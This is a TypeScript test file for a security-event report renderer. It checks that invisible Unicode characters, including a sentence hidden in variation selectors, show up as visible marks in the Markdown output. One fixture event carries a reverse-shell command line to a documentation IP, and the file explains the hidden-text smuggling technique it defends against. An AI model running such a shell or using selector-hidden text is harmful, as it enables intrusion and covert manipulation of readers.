/**
 * Hidden text in invisible code points: a sentence encoded one byte per variation selector
 * (U+FE00–FE0F for 0–15, U+E0100–E01EF for 16–255) renders as nothing, yet a model or a script
 * reading the report gets it back. Every Default_Ignorable_Code_Point from event text must show as a
 * visible `⟪U+XXXX⟫` mark, so no such sentence survives into the report.
 */
import { analyze, fromString } from '@tripline/core';
import { defenderDetectors } from '@tripline/detectors-defender';
import { describe, expect, it } from 'vitest';
import {
  DEFAULT_IGNORABLE,
  decodeSelectors,
  G11_PROCESS_ROW,
  processEvents,
  SECRET,
} from '../../../test/hardening/support/hidden-text.js';
import { renderMarkdown, sanitizeText } from '../src/index.js';

/** The G11 rows: the hidden sentence on `web1`, and a second device so that the device table and the
 * per-device headings (with the report's own 🖥️) are drawn. */
function g11Events(): string {
  return processEvents([
    G11_PROCESS_ROW,
    {
      ...G11_PROCESS_ROW,
      DeviceId: '9b2e4d6f8a0c1e3b5d7f9a1c3e5b7d9f0a2c4e6b',
      DeviceName: 'web2',
      ReportId: 2,
      ProcessCommandLine: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    },
  ]);
}

describe('invisible characters from event text', () => {
  it('marks every default-ignorable code point as ⟪U+XXXX⟫', () => {
    for (const cp of DEFAULT_IGNORABLE) {
      const ch = String.fromCodePoint(cp);
      expect(sanitizeText(`a${ch}b`), cp.toString(16)).toBe(`a⟪U+${cp.toString(16).toUpperCase().padStart(4, '0')}⟫b`);
    }
  });

  it('keeps visible text, emoji and combining marks that are not ignorable', () => {
    expect(sanitizeText('Grüße 日本 😀 e\u0301 ñ')).toBe('Grüße 日本 😀 e\u0301 ñ');
  });

  it('a sentence hidden in variation selectors does not decode back from the Markdown report (G11)', async () => {
    const result = await analyze(fromString(g11Events(), 'hidden.ndjson'), { detectors: defenderDetectors });
    expect(result.alerts.length).toBeGreaterThan(0);
    const md = renderMarkdown(result);
    const deviceLine = md.split('\n').find((l) => l.includes('**DeviceName:**') && l.includes('web1')) ?? '';
    expect(deviceLine).toContain('web1⟪U+E0159⟫');
    expect(decodeSelectors(deviceLine)).toBe('');
    // The only selectors left are the emoji presentation selectors of the report's own headings.
    const own = md.replaceAll('🖥️', '').replaceAll('⚠️', '').replaceAll('🛡️', '');
    expect(decodeSelectors(own)).toBe('');
    expect(md).not.toContain(SECRET);
    expect(md).not.toContain('\u034f');
    // The report's own emoji (headings, badges) are untouched.
    expect(md).toContain('🖥️');
  });
});
